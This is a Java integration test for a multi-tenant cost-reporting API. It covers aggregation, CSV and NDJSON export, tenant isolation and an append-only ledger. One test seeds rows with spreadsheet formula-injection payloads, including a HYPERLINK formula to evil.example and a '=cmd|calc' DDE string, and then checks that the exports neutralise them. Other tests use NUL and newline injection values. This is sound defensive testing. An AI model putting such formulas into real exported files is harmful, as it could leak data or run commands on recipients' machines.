package io.atelier;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import jakarta.json.JsonObject;
import jakarta.json.JsonValue;
import java.math.BigDecimal;
import java.net.http.HttpResponse;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** US6.3, SC-009: an operator sees what generations cost; a tenant what its own cost. */
class CostStoryIT {
  private static final String ONE = LiveServer.newTenant();
  private static final String TWO = LiveServer.newTenant();
  private static final String PAID =
      """
      WITH job AS (SELECT id, run_id, step_id, tenant_id FROM generation_job WHERE tenant_id = ?
                   ORDER BY created_at LIMIT 1),
      a AS (INSERT INTO attempt (id, job_id, no, provider, status, started_at, settled_at, guarantee)
            SELECT gen_random_uuid(), job.id, ?, ?, 'SUCCEEDED', now(), now(), 'NONE' FROM job
            RETURNING id),
      s AS (INSERT INTO stage (id, attempt_id, no, outcome, cost_basis, currency, submitted_at)
            SELECT gen_random_uuid(), a.id, 1, 'ACCEPTED', ?, 'USD', now() FROM a RETURNING id)
      INSERT INTO cost_entry (id, stage_id, job_id, tenant_id, run_id, step_id, provider, amount,
        basis, currency, recorded_at, kind, skill, model, parameters, accepted_at)
      SELECT gen_random_uuid(), s.id, job.id, job.tenant_id, job.run_id, job.step_id, ?,
        CAST(? AS numeric), ?, 'USD', now(), 'VIDEO', 'generate_outcome_animation', '=kling/pro',
        CAST(? AS jsonb), CAST(? AS timestamptz)
      FROM job, s RETURNING id, stage_id
      """;

  private static String operator;
  private static String creator;
  private static String other;

  @BeforeAll
  static void generationsHaveCosts() throws SQLException {
    operator = LiveServer.operator();
    creator = LiveServer.bearer(ONE);
    other = LiveServer.bearer(TWO);
    texture(creator, 512);
    texture(creator, 520);
    texture(other, 512);
    String fine = "{\"resolution\":\"1080p\",\"duration_seconds\":\"15\"}";
    pay(ONE, 2, "nano-banana", "REPORTED", "1.350000", fine, "2026-01-31T23:59:59Z");
    pay(ONE, 3, "nano-banana", "COMPUTED", "0.123456", fine, "2026-02-01T00:00:00Z");
    pay(ONE, 4, "meshy", "POSSIBLE", "0.500000", "{}", "2026-02-02T00:00:00Z");
    pay(ONE, 5, "meshy", "UNKNOWN", null, "{}", "2026-02-02T00:00:00Z");
    UUID possible = pay(ONE, 6, "suno", "POSSIBLE", "0.060000", "{}", "2026-02-03T00:00:00Z");
    correct(possible, "-0.020000");
    pay(TWO, 2, "nano-banana", "REPORTED", "7.650000", fine, "2026-02-01T00:00:00Z");
  }

  @Test
  void SC_009_costs_are_reported_per_tenant_and_provider() {
    List<JsonObject> sums = items(costs("?tenant=" + ONE, operator));

    assertThat(sums)
        .extracting(sum -> sum.getJsonObject("group").getString("provider"))
        .containsExactly("meshy", "nano-banana", "procedural", "suno");
    assertThat(sums)
        .allSatisfy(
            sum -> assertThat(sum.getJsonObject("group").getString("tenant")).isEqualTo(ONE));
    JsonObject meshy = sums.get(0);
    assertThat(meshy.getString("amount")).isEqualTo("0.500000");
    assertThat(meshy.getString("possible_amount")).isEqualTo("0.500000");
    assertThat(meshy.getInt("creates")).isEqualTo(2);
    assertThat(meshy.getInt("unknown_creates")).isEqualTo(1);
    assertThat(sums.get(1).getString("amount")).isEqualTo("1.473456");
    assertThat(sums.get(1).get("possible_amount")).isEqualTo(JsonValue.NULL);
    assertThat(sums.get(2).getString("amount")).isEqualTo("0.000000");
    assertThat(sums.get(2).getInt("creates")).isEqualTo(2);
    // Corrected: what was possible is certain, and counted once.
    assertThat(sums.get(3).getString("amount")).isEqualTo("0.040000");
    assertThat(sums.get(3).get("possible_amount")).isEqualTo(JsonValue.NULL);
    assertThat(sums.get(3).getInt("creates")).isEqualTo(1);
    assertThat(sums).extracting(sum -> sum.getString("currency")).containsOnly("USD");
  }

  @Test
  void US6_3_costs_are_broken_down_by_kind_and_parameters() {
    List<String> rows =
        items(costs("?tenant=" + ONE + "&groupBy=kind,resolution,duration,model", operator))
            .stream()
            .map(sum -> sum.getJsonObject("group") + " " + sum.get("amount"))
            .toList();

    assertThat(rows)
        .containsExactly(
            row("null", "image", "null", "512x512", "0.000000"),
            row("null", "image", "null", "520x520", "0.000000"),
            row("null", "video", "\"=kling/pro\"", "null", "0.540000"),
            row("\"010-015\"", "video", "\"=kling/pro\"", "1080p", "1.473456"));
  }

  // US6.3: any parameter is filtered by, too, in the sums and in the lines that they are made of.
  @ParameterizedTest
  @CsvSource({
    "resolution=1080p, 2, 1.473456",
    "duration=010-015, 2, 1.473456",
    "duration=005-010, 0, 0",
    "duration=010-015&resolution=512x512, 0, 0",
    "resolution=&duration=, 4, 0.540000",
    "duration=010-015&from=2026-02-01, 1, 0.123456",
  })
  void US6_3_costs_are_filtered_by_parameters(String filter, int lines, BigDecimal amount) {
    String query = "?tenant=" + ONE + "&" + filter;
    List<JsonObject> found =
        items(LiveServer.get(LiveServer.at("/api/v1/costs/entries" + query), operator));

    assertThat(found).hasSize(lines);
    assertThat(sum(found)).isEqualByComparingTo(amount);
    assertThat(sum(items(costs(query, operator)))).isEqualByComparingTo(amount);
  }

  private static BigDecimal sum(List<JsonObject> items) {
    return items.stream()
        .filter(item -> !item.isNull("amount"))
        .map(item -> new BigDecimal(item.getString("amount")))
        .reduce(BigDecimal.ZERO, BigDecimal::add);
  }

  private static String row(
      String duration, String kind, String model, String resolution, String amount) {
    return "{\"duration\":%s,\"kind\":\"%s\",\"model\":%s,\"resolution\":%s} \"%s\""
        .formatted(
            duration,
            kind,
            model,
            resolution.equals("null") ? resolution : '"' + resolution + '"',
            amount);
  }

  @Test
  void months_and_days_are_those_of_the_acceptance_in_utc() {
    assertThat(
            items(costs("?tenant=" + ONE + "&provider=nano-banana&groupBy=month", operator))
                .stream()
                .map(
                    sum ->
                        sum.getJsonObject("group").getString("month")
                            + " "
                            + sum.getString("amount"))
                .toList())
        .containsExactly("2026-01 1.350000", "2026-02 0.123456");
    assertThat(
            items(
                    costs(
                        "?tenant=" + ONE + "&provider=nano-banana&from=2026-01-31&to=2026-02-01",
                        operator))
                .get(0)
                .getString("amount"))
        .isEqualTo("1.350000");
  }

  // Bad input and faults: the month's edge, whatever zone who writes the line is in.
  @ParameterizedTest
  @ValueSource(strings = {"America/New_York", "Pacific/Auckland"})
  void a_month_is_that_of_utc_wherever_its_line_is_written(String zone) throws SQLException {
    String tenant = LiveServer.newTenant();
    texture(LiveServer.bearer(tenant), 512);
    try (Connection database = LiveServer.database();
        Statement session = database.createStatement()) {
      session.execute("SET TIME ZONE '" + zone + "'");
      // The night in which clocks change, in New York.
      pay(database, tenant, 2, "suno", "REPORTED", "0.1", "{}", "2026-03-08T06:30:00Z");
      pay(database, tenant, 3, "suno", "REPORTED", "1", "{}", "2026-02-28T23:59:59Z");
      pay(database, tenant, 4, "suno", "REPORTED", "10", "{}", "2026-03-01T00:00:00Z");
    }
    for (String grouping : List.of("month", "month,run")) {
      assertThat(
              items(costs("?provider=suno&tenant=" + tenant + "&groupBy=" + grouping, operator))
                  .stream()
                  .map(
                      sum ->
                          sum.getJsonObject("group").getString("month")
                              + " "
                              + sum.getString("amount"))
                  .toList())
          .as(grouping)
          .containsExactly("2026-02 1.000000", "2026-03 10.100000");
    }
  }

  @Test
  void totals_are_the_sum_of_the_lines_whatever_they_are_grouped_by() {
    BigDecimal lines = BigDecimal.ZERO;
    String next = "";
    int count = 0;
    do {
      JsonObject page =
          LiveServer.json(
              LiveServer.get(
                  LiveServer.at("/api/v1/costs/entries?limit=3&tenant=" + ONE + next), operator));
      for (JsonObject line : page.getJsonArray("items").getValuesAs(JsonValue::asJsonObject)) {
        count++;
        lines = line.isNull("amount") ? lines : lines.add(new BigDecimal(line.getString("amount")));
      }
      next = page.isNull("next") ? "" : "&cursor=" + page.getString("next");
    } while (!next.isEmpty());

    assertThat(count).isEqualTo(8);
    for (String grouping : List.of("tenant", "day,provider,model", "run,skill,basis", "month")) {
      BigDecimal sum = BigDecimal.ZERO;
      String cursor = "";
      do {
        JsonObject page =
            LiveServer.json(
                costs("?limit=1&tenant=" + ONE + "&groupBy=" + grouping + cursor, operator));
        for (JsonObject group : page.getJsonArray("items").getValuesAs(JsonValue::asJsonObject)) {
          sum = group.isNull("amount") ? sum : sum.add(new BigDecimal(group.getString("amount")));
        }
        cursor = page.isNull("next") ? "" : "&cursor=" + page.getString("next");
      } while (!cursor.isEmpty());
      assertThat(sum).as(grouping).isEqualByComparingTo(lines);
    }
  }

  @Test
  void a_tenant_sees_its_own_and_of_others_nothing() {
    assertThat(items(costs("", creator)))
        .isNotEmpty()
        .allSatisfy(
            sum -> assertThat(sum.getJsonObject("group").getString("tenant")).isEqualTo(ONE));
    HttpResponse<byte[]> foreign = costs("?tenant=" + TWO, creator);
    HttpResponse<byte[]> absent = costs("?tenant=nobody-of-that-name", creator);
    assertThat(LiveServer.text(foreign)).isEqualTo(LiveServer.text(absent));
    assertThat(items(foreign)).isEmpty();
    assertThat(
            LiveServer.text(
                LiveServer.get(LiveServer.at("/api/v1/costs/entries?format=csv"), creator)))
        .contains(ONE)
        .doesNotContain(TWO);
  }

  @Test
  void csv_is_complete_and_nothing_in_it_is_a_formula() {
    HttpResponse<byte[]> answer =
        costs("?tenant=" + ONE + "&groupBy=model,provider&format=csv", operator);

    assertThat(answer.headers().firstValue("Content-Type")).contains("text/csv;charset=utf-8");
    assertThat(LiveServer.text(answer).lines())
        .containsExactly(
            "provider,model,amount,possible_amount,creates,unknown_creates,currency",
            "meshy,'=kling/pro,0.500000,0.500000,2,1,USD",
            "nano-banana,'=kling/pro,1.473456,,2,0,USD",
            "procedural,,0.000000,,2,0,USD",
            "suno,'=kling/pro,0.040000,,1,0,USD");
  }

  @Test
  void all_of_it_comes_as_lines_of_json_too_as_the_pages_have_it() {
    for (String what : List.of("?groupBy=month,model&", "/entries?")) {
      String query = what + "tenant=" + ONE;
      HttpResponse<byte[]> answer = costs(query + "&format=ndjson", operator);
      assertThat(answer.headers().firstValue("Content-Type")).contains("application/x-ndjson");
      assertThat(LiveServer.text(answer).lines().map(LiveServer::object))
          .containsExactlyElementsOf(items(costs(query, operator)));
    }
  }

  @Test
  void csv_of_some_days_sums_up_the_lines_themselves() {
    HttpResponse<byte[]> answer =
        costs(
            "?tenant="
                + ONE
                + "&groupBy=duration,provider&from=2026-02-01&to=2026-02-04&format=csv",
            operator);

    assertThat(LiveServer.text(answer).lines())
        .containsExactly(
            "provider,duration,amount,possible_amount,creates,unknown_creates,currency",
            "meshy,,0.500000,0.500000,2,1,USD",
            "nano-banana,010-015,0.123456,,1,0,USD",
            "suno,,0.040000,,1,0,USD");
  }

  @Test
  void ten_thousand_lines_are_streamed_as_csv_and_no_cell_is_a_formula() throws SQLException {
    String tenant = LiveServer.newTenant();
    String creators = LiveServer.bearer(tenant);
    texture(creators, 512);
    try (Connection database = LiveServer.database();
        PreparedStatement insert =
            database.prepareStatement(
                """
                WITH line AS (SELECT * FROM cost_entry WHERE tenant_id = ? LIMIT 1)
                INSERT INTO cost_entry (id, stage_id, job_id, tenant_id, run_id, step_id, provider,
                  corrects, amount, basis, currency, recorded_at, kind, skill, model, parameters,
                  accepted_at)
                SELECT gen_random_uuid(), stage_id, job_id, tenant_id,
                  (ARRAY['=1+1', '+1', '-1', '@SUM(A1)', E'\\t=1', E'\\r=1', E'\\n=1', E'\\uFF1D1'])[1 + n % 8],
                  '=HYPERLINK("http://evil.example/?' || n || '","a"",b")', provider, id, -0.01,
                  'REPORTED', 'USD', now(), kind, '@skill', E'-2+3\\n=cmd|calc',
                  '{"resolution":"=1"}', accepted_at
                FROM line, generate_series(1, 10000) AS n
                """)) {
      insert.setString(1, tenant);
      assertThat(insert.executeUpdate()).isEqualTo(10_000);
    }

    HttpResponse<byte[]> answer =
        LiveServer.get(LiveServer.at("/api/v1/costs/entries?format=csv"), creators);

    assertThat(answer.headers().firstValue("Content-Length"))
        .as("what is cut off is seen")
        .contains(String.valueOf(answer.body().length));
    List<List<String>> rows = CsvRows.of(LiveServer.text(answer));
    assertThat(rows).hasSize(10_002);
    assertThat(rows).allSatisfy(row -> assertThat(row).hasSize(rows.get(0).size()));
    int amount = rows.get(0).indexOf("amount");
    assertThat(rows.stream().filter(row -> row.get(amount).equals("-0.010000"))).hasSize(10_000);
    for (List<String> row : rows) {
      for (int i = 0; i < row.size(); i++) {
        if (i != amount) {
          assertThat(row.get(i)).doesNotMatch("(?s)[=+\\-@\\t\\r\\n\uFF1D].*");
        }
      }
    }
  }

  @ParameterizedTest
  @CsvSource({
    "groupBy=colour, groupBy",
    "groupBy=tenant%2Ctenant, groupBy",
    "from=yesterday, from",
    "to=2026-02-30, to",
    "format=xml, format",
    "format=csv&limit=5, limit",
    "format=ndjson&cursor=a, cursor",
    "duration=12, duration",
    "cursor=zzz, cursor",
    "limit=0, limit",
    "kinds=video, kinds",
    "model=%00, model",
    "tenant=a%0Ab, tenant",
    "from=-0001-01-01, from",
    "to=%2B10000-01-01, to",
    "to=%2B999999999-12-31T00:00:00Z, to",
    "cursor=dGVuYW50LHByb3ZpZGVyL2EAL2IvVVNE, cursor", // tenant,provider/a\0/b/USD
  })
  void a_bad_question_is_refused_by_name(String query, String field) {
    HttpResponse<byte[]> answer = costs("?" + query, operator);
    assertThat(answer.statusCode()).isEqualTo(400);
    assertThat(LiveServer.json(answer).getString("field")).isEqualTo(field);
  }

  @ParameterizedTest
  @CsvSource({
    "run=%00, run",
    "from=%2B999999999-01-01, from",
    "cursor=zzz, cursor",
    "cursor=Kzk5OTk5OTk5OS0xMi0zMVQwMDowMDowMFovNmYxZjBhNTItN2QwZS00YTQzLTlkNWUtMmY2ZjFjMWQwYjEx,"
        + " cursor", // +999999999-12-31T00:00:00Z/UUID
    "cursor=LTQ4MDAtMDEtMDFUMDA6MDA6MDBaLzZmMWYwYTUyLTdkMGUtNGE0My05ZDVlLTJmNmYxYzFkMGIxMQ,"
        + " cursor", // -4800-01-01T00:00:00Z/UUID
  })
  void a_bad_question_for_lines_is_refused_by_name(String query, String field) {
    HttpResponse<byte[]> answer =
        LiveServer.get(LiveServer.at("/api/v1/costs/entries?" + query), operator);
    assertThat(answer.statusCode()).isEqualTo(400);
    assertThat(LiveServer.json(answer).getString("field")).isEqualTo(field);
  }

  // Issue 7: the ledger is append-only.
  @ParameterizedTest
  @ValueSource(strings = {"UPDATE cost_entry SET amount = 0", "DELETE FROM cost_entry"})
  void no_line_is_ever_changed_or_deleted(String change) throws SQLException {
    try (Connection database = LiveServer.database();
        PreparedStatement statement = database.prepareStatement(change + " WHERE tenant_id = ?")) {
      statement.setString(1, ONE);
      assertThatExceptionOfType(SQLException.class)
          .isThrownBy(statement::executeUpdate)
          .withMessageContaining("add one that corrects it");
    }
  }

  private static HttpResponse<byte[]> costs(String query, String authorization) {
    return LiveServer.get(LiveServer.at("/api/v1/costs" + query), authorization);
  }

  private static List<JsonObject> items(HttpResponse<byte[]> answer) {
    assertThat(answer.statusCode()).as(LiveServer.text(answer)).isEqualTo(200);
    return new ArrayList<>(
        LiveServer.json(answer).getJsonArray("items").getValuesAs(JsonValue::asJsonObject));
  }

  private static void texture(String creator, int size) {
    String order =
        "{\"skill\":\"generate_texture\",\"input\":{\"prompt\":\"sand\",\"size\":" + size + "}}";
    assertThat(LiveServer.settled("-spring", order, creator).getString("status"))
        .isEqualTo("COMPLETED");
  }

  private static UUID pay(
      String tenant,
      int attempt,
      String provider,
      String basis,
      String amount,
      String parameters,
      String acceptedAt)
      throws SQLException {
    try (Connection database = LiveServer.database()) {
      return pay(database, tenant, attempt, provider, basis, amount, parameters, acceptedAt);
    }
  }

  private static UUID pay(
      Connection database,
      String tenant,
      int attempt,
      String provider,
      String basis,
      String amount,
      String parameters,
      String acceptedAt)
      throws SQLException {
    try (PreparedStatement insert = database.prepareStatement(PAID)) {
      List<Object> values = new ArrayList<>(List.of(tenant, attempt, provider, basis, provider));
      values.add(amount);
      values.addAll(List.of(basis, parameters, acceptedAt));
      for (int i = 0; i < values.size(); i++) {
        insert.setObject(i + 1, values.get(i));
      }
      try (var rows = insert.executeQuery()) {
        rows.next();
        return rows.getObject("id", UUID.class);
      }
    }
  }

  private static void correct(UUID entry, String difference) throws SQLException {
    try (Connection database = LiveServer.database();
        PreparedStatement insert =
            database.prepareStatement(
                """
                INSERT INTO cost_entry (id, stage_id, job_id, tenant_id, run_id, step_id, provider,
                  corrects, amount, basis, currency, recorded_at, kind, skill, model, parameters,
                  accepted_at)
                SELECT gen_random_uuid(), stage_id, job_id, tenant_id, run_id, step_id, provider,
                  id, CAST(? AS numeric), 'REPORTED', currency, now(), kind, skill, model,
                  parameters, accepted_at
                FROM cost_entry WHERE id = ?
                """)) {
      insert.setString(1, difference);
      insert.setObject(2, entry);
      insert.executeUpdate();
    }
  }
}
